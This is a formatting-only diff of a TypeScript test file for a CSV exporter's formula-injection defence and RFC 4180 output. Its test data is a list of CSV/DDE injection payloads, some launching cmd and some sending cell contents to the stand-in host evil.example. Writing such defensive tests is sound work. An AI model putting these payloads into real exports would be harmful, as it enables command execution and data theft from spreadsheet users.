@@ -8,18 +8,18 @@ import { neutralise, toCsv, unneutralise } from '../../src/domain/export/csv.ts'
  */
 const PAYLOADS = [
   '=1+1',
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   "=cmd|' /C notepad'!'A1'",
   '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Click for details")',
   '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
   '=WEBSERVICE("http://evil.example/"&A1)',
-  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
   '+1+1',
   "+cmd|' /C calc'!A0",
   '-1+1',
   "-2+3+cmd|' /C calc'!A0",
   '-@SUM(1+1)',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '@SUM(A1:A10)',
   '\t=1+1',
   '\r=1+1',
@@ -69,7 +69,13 @@ describe('CSV formula-injection defence (OWASP)', () => {
 
 describe('RFC 4180 writing', () => {
   it('quotes fields with commas, quotes and line breaks, uses CRLF and starts with a UTF-8 BOM', () => {
-    const csv = toCsv(['a', 'b', 'c', 'd'], [['plain', 'with, comma', 'say "hi"', 'two\nlines'], [null, 42, true, 'Zürich 東京']]);
+    const csv = toCsv(
+      ['a', 'b', 'c', 'd'],
+      [
+        ['plain', 'with, comma', 'say "hi"', 'two\nlines'],
+        [null, 42, true, 'Zürich 東京'],
+      ],
+    );
     expect(csv).toBe('\uFEFFa,b,c,d\r\nplain,"with, comma","say ""hi""","two\nlines"\r\n,42,true,Zürich 東京\r\n');
     expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
   });
